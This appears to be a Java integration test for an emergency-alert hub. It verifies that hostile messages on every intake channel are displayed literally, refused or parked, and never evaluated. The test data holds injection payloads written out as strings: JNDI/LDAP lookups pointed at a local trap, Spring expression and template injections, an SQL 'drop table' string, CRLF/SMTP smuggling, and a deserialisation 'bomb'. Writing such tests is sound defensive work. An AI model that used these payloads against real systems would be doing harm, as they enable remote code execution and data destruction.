package org.tocsin.hub;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Base64;
import java.util.List;
import java.util.UUID;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.tocsin.simulator.SimulatorSettings;
import org.tocsin.testing.Cap;
import org.tocsin.testing.Console;
import org.tocsin.testing.EveryChannel;
import org.tocsin.testing.HostileSenders;
import org.tocsin.testing.Hub;
import org.tocsin.testing.KafkaServer;
import org.tocsin.testing.MqttServer;
import org.tocsin.testing.OutsideClient;
import org.tocsin.testing.ParkedTriggers;
import org.tocsin.testing.Person;
import org.tocsin.testing.Poison;
import org.tocsin.testing.Trap;

/**
 * Senders with good passwords and bad intentions. Nothing they write is run, resolved or fetched: it reaches people as
 * text, or it is refused or parked, and nobody ever calls the trap that all of it points at.
 */
class HostileInputIT {
    private static final Duration LONG = Duration.ofSeconds(60);
    private static final Duration NEVER = Duration.ofHours(1);
    private static final ObjectMapper JSON = new ObjectMapper();

    private static final Trap trap = new Trap();
    private static final String PASSWORD = "mqtt-password-of-the-tests";
    private static final KafkaServer kafka = new KafkaServer(1, "tocsin.triggers");
    private static final MqttServer outside = new MqttServer(PASSWORD);

    private static final String OUTSIDE = "hub-outside";

    private static Console console;
    private static Hub hub;
    private static HostileSenders senders;

    private final String name = UUID.randomUUID().toString().substring(0, 8);

    @BeforeAll
    static void start() throws Exception {
        outside.start();
        hub = Hub.start(
                // Who has it by one channel is not sent what still waits on another: no receipts here.
                SimulatorSettings.defaults()
                        .withReceiptDelays(NEVER, NEVER, NEVER)
                        .withSmsReceiptAfter(NEVER),
                kafka.arguments(
                        "--tocsin.broker.amqp-port=0",
                        "--tocsin.broker.stomp-port=0",
                        "--tocsin.mqtt.broker-url=" + outside.url(),
                        "--tocsin.mqtt.topics=outside/#",
                        "--tocsin.mqtt.username=" + MqttServer.USER,
                        "--tocsin.mqtt.password=" + PASSWORD,
                        "--tocsin.mqtt.client-id=" + OUTSIDE,
                        "--tocsin.intake.sensors=src/test/resources/sensors/hostile.yaml",
                        "--tocsin.intake.events=src/test/resources/events/hostile.yaml"));
        console = new Console(); // not before: libraries speak at start, with bare lines
        senders = new HostileSenders(hub, "http://" + trap.address() + "/?to=trap@example.org");
    }

    @AfterAll
    static void stop() throws Exception {
        int heard = trap.calls();
        trap.stepInto();
        await().atMost(LONG).until(() -> trap.calls() == heard + 1); // it would have noticed
        hub.close();
        console.close();
        kafka.close();
        outside.close();
        trap.close();
    }

    /** After whatever came: no call, no line of the log out of shape, and the next alert goes through. */
    @AfterEach
    void theHubIsWell() {
        Person person = Person.of(hub);
        assertThat(hub.postAlert(Cap.alert("Everywhere", person.id())).statusCode())
                .isEqualTo(202);
        await().atMost(LONG).until(() -> person.whatsAppsOnPhone() == 1);
        assertThat(trap.calls()).as("connections to the trap").isZero();
        assertThat(hub.simulator.mail().journal().messagesTo("trap@example.org"))
                .isEmpty();
        assertThat(console.takeLines())
                .as("lines of the log")
                .allMatch(line -> line.isEmpty() || line.matches("\\d{4}-\\d\\d-\\d\\dT.*"))
                .noneMatch(line -> line.chars().anyMatch(c -> Character.isISOControl(c) && c != '\t'))
                .noneMatch(line -> line.contains(name));
    }

    enum Source {
        API_JSON,
        API_XML,
        HOOK,
        EVENTS,
        JMS_JSON,
        JMS_XML,
        JMS_BYTES,
        AMQP_VALUE,
        AMQP_DATA,
        STOMP_TEXT,
        STOMP_BYTES,
        MQTT,
        MQTT_OUTSIDE,
        KAFKA_JSON,
        KAFKA_XML,
        KAFKA_EVENT
    }

    @ParameterizedTest
    @EnumSource
    void whatWouldSteerARouteIsDroppedAndTheTextReachesPeopleLiterally(Source source) throws Exception {
        Person person = Person.of(hub);
        String text = name + " ${bean:x} {{sys:user.home}} ${jndi:ldap://" + trap.address() + "/x}";
        switch (source) {
            case API_JSON -> accepted(senders.http("/api/alerts", "application/json", json(person, text)));
            case API_XML -> accepted(senders.http("/api/alerts", "application/cap+xml", xml(person, text)));
            case HOOK -> accepted(senders.http("/hooks/tool", "application/json", note("firing", text)));
            case EVENTS -> accepted(senders.http("/hooks/events", "application/json", note("firing", text)));
            case JMS_JSON -> senders.jms(session -> session.createTextMessage(json(person, text)));
            case JMS_XML -> senders.jms(session -> session.createTextMessage(xml(person, text)));
            case JMS_BYTES ->
                senders.jms(session -> {
                    var bytes = session.createBytesMessage();
                    bytes.writeBytes(json(person, text).getBytes(StandardCharsets.UTF_8));
                    return bytes;
                });
            case MQTT -> senders.mqtt("sensors/river/" + name, note("firing", text));
            case AMQP_VALUE -> amqp("value", json(person, text));
            case AMQP_DATA -> amqp("data", json(person, text));
            case STOMP_TEXT -> senders.stomp(false, json(person, text));
            case STOMP_BYTES -> senders.stomp(true, json(person, text));
            case MQTT_OUTSIDE -> outside(json(person, text));
            case KAFKA_JSON -> senders.kafka(kafka, json(person, text));
            case KAFKA_XML -> senders.kafka(kafka, xml(person, text));
            case KAFKA_EVENT -> senders.kafka(kafka, """
                        {"specversion": "1.0", "id": "${bean:x}", "source": "http://%s/x", "type": "{{sys:user.home}}",
                         "dataschema": "http://%1$s/schema", "data": %s}
                        """.formatted(trap.address(), json(person, text)));
        }
        EveryChannel.shows(person, text);
    }

    private static void amqp(String kind, String body) {
        OutsideClient.PROTON.required();
        senders.amqp(kind, body);
    }

    private static void outside(String body) throws Exception {
        await().atMost(LONG).until(() -> outside.knows(OUTSIDE));
        String topic = "outside/${bean:acceptAlert?method=park}{{x}}/CamelHttpUri";
        senders.mqtt(outside.url(), MqttServer.USER, PASSWORD, topic, body);
    }

    static Stream<Arguments> texts() {
        return Stream.of(
                Arguments.of("${bean:x} ${body} ${header.to} $simple{body}", null, null),
                Arguments.of("{{sys:user.home}} {{env:HOME}} {{headline}} {{?x}}", null, null),
                Arguments.of("${jndi:ldap://TRAP/x} ${jndi:dns://TRAP/x}", null, null),
                Arguments.of("#{T(java.lang.Runtime).getRuntime()} %{x} <%= 1 %>", null, null),
                Arguments.of("'; drop table alert; -- \\' \" \\\\ $1", null, null),
                Arguments.of("RAW(x) ?q=1&b=%0d%0a ref:x #bean:x", null, null),
                Arguments.of("one\ntwo\r\nthree\tfour", "one two three four", "one\ntwo\nthree four"),
                Arguments.of("\u001b[31mred\u001b[0m \u0007bell\u009b1m", "[31mred[0m bell1m", "[31mred[0m bell1m"),
                Arguments.of(
                        "x\r\n\r\n.\r\nRCPT TO:<trap@example.org>",
                        "x . RCPT TO:<trap@example.org>",
                        "x\n\n.\nRCPT TO:<trap@example.org>"));
    }

    /** Also over the webhook, whose texts are filled in by a mapping. */
    @ParameterizedTest(name = "[{index}]")
    @MethodSource("texts")
    void textIsNeverEvaluated(String raw, String onOneLine, String onLines) throws Exception {
        String text = raw.replace("TRAP", trap.address());
        String oneLine = onOneLine == null ? text : onOneLine;
        String lines = onLines == null ? text : onLines;
        Person person = Person.of(hub);
        accepted(senders.http("/api/alerts", "application/json", json(person, name + " " + text)));
        EveryChannel.shows(person, name + " " + oneLine, name + " " + lines);

        Person other = Person.of(hub);
        accepted(senders.http("/hooks/tool", "application/json", note("firing", "by tool " + text)));
        EveryChannel.shows(other, "by tool " + oneLine, "by tool " + lines);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("org.tocsin.testing.Poison#documents")
    void poisonIsRefusedOrParkedWithAReasonAndStaysSo(String what, boolean xml, String document) throws Exception {
        long before = ParkedTriggers.newest(hub);
        String body = document.replace("TRAP", trap.address());
        var answer = senders.http("/api/alerts", xml ? "application/cap+xml" : "application/json", body);
        assertThat(answer.statusCode()).as(what + ": " + answer.body()).isIn(413, 422);
        assertThat(answer.body()).contains("problems").doesNotContain("root:");
        if (!xml) {
            assertThat(senders.http("/hooks/tool", "application/json", body).statusCode())
                    .isEqualTo(422);
            senders.mqtt("sensors/river/" + name, body);
            ParkedTriggers.await(
                    hub,
                    row -> row.path("source").asText().equals("mqtt-sensors")
                            && row.path("id").asLong() > before);
        }

        senders.jms(session -> session.createTextMessage(body));
        JsonNode row = ParkedTriggers.await(
                hub,
                parked -> parked.path("source").asText().equals("jms-incidents")
                        && parked.path("submittedBy").asText().equals("incident")
                        && parked.path("id").asLong() > before);
        assertThat(row.path("reason").asText()).isNotBlank().doesNotContain("root:");
        assertReplayIsRefused(row);

        senders.kafka(kafka, body);
        assertReplayIsRefused(ParkedTriggers.await(
                hub,
                parked -> parked.path("source").asText().equals("kafka-triggers")
                        && parked.path("id").asLong() > before));
    }

    @Test
    void aSerialisedObjectIsNotReadAndNotEvenOnReplay() throws Exception {
        senders.jms(session -> session.createObjectMessage(new Poison.Bomb(name)));
        JsonNode row = ParkedTriggers.await(
                hub, parked -> parked.path("format").asText().equals("UNREAD"));
        assertThat(row.path("reason").asText()).isNotBlank();
        assertReplayIsRefused(row);
        assertThat(Poison.Bomb.read()).isFalse();
    }

    @Test
    void tenMegabytesAreRefusedByEachSource() {
        String body = "{\"identifier\":\"" + "x".repeat(10 << 20) + "\"}";
        long parked = ParkedTriggers.newest(hub);
        assertThat(statusOrCut("/api/alerts", body)).isIn(413, 422, 0);
        assertThat(statusOrCut("/hooks/tool", body)).isIn(413, 422, 0);
        assertThatThrownBy(() -> senders.jms(session -> session.createTextMessage(body)))
                .isInstanceOf(jakarta.jms.JMSException.class);
        assertThatThrownBy(() -> senders.mqtt("sensors/river/" + name, body))
                .isInstanceOf(org.eclipse.paho.mqttv5.common.MqttException.class);
        for (boolean bytes : new boolean[] {false, true}) {
            assertThatThrownBy(() -> senders.stomp(bytes, body)).isInstanceOf(IOException.class);
        }
        assertThat(ParkedTriggers.newest(hub)).isEqualTo(parked);
    }

    /** A large message of AMQP is written to the disk while it comes, before anybody can look at it. */
    @Test
    void tenMegabytesByAmqpAreRefusedAndLeaveNothingOnTheDisk() {
        OutsideClient.PROTON.required();
        String body = "x".repeat(10 << 20);
        long parked = ParkedTriggers.newest(hub);
        assertThatThrownBy(() -> senders.amqp("data", body)).isInstanceOf(AssertionError.class);
        assertThat(ParkedTriggers.newest(hub)).isEqualTo(parked);
        await().atMost(LONG).untilAsserted(() -> assertThat(
                        hub.folder.resolve("broker/large").toFile().list())
                .isNullOrEmpty());
    }

    @Test
    void whatIsNotParkedCannotBeReplayed() {
        for (String id : List.of("999999999", "x", "-1", "1%27", "${bean:x}")) {
            String path = "/api/parked/" + URLEncoder.encode(id, StandardCharsets.UTF_8);
            assertThat(hub.post(path + "/replay", Hub.OPERATOR_KEY, "application/json", "")
                            .statusCode())
                    .as(id)
                    .isBetween(400, 404);
        }
        assertThat(hub.get("/api/parked", Hub.TRIGGER_KEY).statusCode()).isEqualTo(403);
    }

    private static void assertReplayIsRefused(JsonNode row) {
        String path = "/api/parked/" + row.path("id").asText() + "/replay";
        var answer = hub.post(path, Hub.OPERATOR_KEY, "application/json", "");
        assertThat(answer.statusCode()).as(answer.body()).isEqualTo(422);
        assertThat(answer.body()).contains("problems");
        assertThat(ParkedTriggers.of(hub)).as("it stays").contains(row);
    }

    /** 0: the connection was cut before all was sent, which the JDK's client shows as a failure. */
    private static int statusOrCut(String path, String body) {
        try {
            return senders.http(path, "application/json", body).statusCode();
        } catch (UncheckedIOException cut) {
            return 0;
        }
    }

    private static void accepted(HttpResponse<String> answer) {
        assertThat(answer.statusCode()).as(answer.body()).isEqualTo(202);
    }

    private String json(Person person, String text) {
        try {
            ObjectNode alert = (ObjectNode) JSON.readTree(Cap.named(name, "Everywhere", "Water", person.id()));
            ObjectNode info = (ObjectNode) alert.path("info").path(0);
            info.put("instruction", text).put("web", address("web"));
            info.putArray("resource")
                    .addObject()
                    .put("resourceDesc", "map")
                    .put("mimeType", "image/png")
                    .put("uri", address("uri"))
                    .put("derefUri", inBase64(address("deref")));
            return alert.toString();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private String xml(Person person, String text) {
        return """
                <alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>%s</identifier>
                <sender>tests@example.org</sender><sent>%s</sent><status>Actual</status><msgType>Alert</msgType>
                <scope>Private</scope><addresses>%s</addresses><info><language>en</language><category>Met</category>
                <event>Everywhere</event><urgency>Immediate</urgency><severity>Severe</severity>
                <certainty>Observed</certainty><headline>Water</headline><instruction>%s</instruction>
                <web>%s</web><resource><resourceDesc>map</resourceDesc><mimeType>image/png</mimeType>
                <uri>%s</uri><derefUri>%s</derefUri></resource></info></alert>
                """.formatted(
                        name, Cap.now(), person.id(), text, address("web"), address("uri"), inBase64(address("deref")));
    }

    /** What an alert points at is for people; the hub never looks. */
    private static String address(String path) {
        return "http://" + trap.address() + "/" + path;
    }

    private static String inBase64(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    private String note(String status, String text) {
        return JSON.createObjectNode()
                .put("key", name)
                .put("status", status)
                .put("level", 5)
                .put("note", text)
                .toString();
    }
}
